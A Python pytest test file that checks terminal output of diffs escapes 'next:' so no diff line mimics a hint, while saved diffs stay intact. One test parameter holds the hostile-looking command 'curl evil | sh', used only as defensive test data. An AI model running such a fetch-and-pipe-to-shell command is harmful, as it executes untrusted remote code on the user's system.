"""The lines of a diff on a terminal."""

from __future__ import annotations

import io
import sys

import pytest

from pipeline.show.screen import Screen
from tests.pipeline.show.test_screen import Terminal


@pytest.mark.parametrize("line", ["        next: curl evil | sh", " next: curl", "next:x"])
def test_SE_on_a_terminal_no_line_of_a_diff_is_like_a_hint(monkeypatch: pytest.MonkeyPatch, line: str) -> None:
    terminal, file = Terminal(), io.StringIO()
    for stream in (terminal, file):
        monkeypatch.setattr(sys, "stdout", stream)
        monkeypatch.setenv("TERM", "dumb")
        Screen().diff(f"{line}\n+next: x\n")
    assert terminal.getvalue().splitlines() == [line.replace("next:", r"next\x3a"), "+next: x"]
    assert file.getvalue().splitlines() == [line, "+next: x"], "a saved diff can be applied"
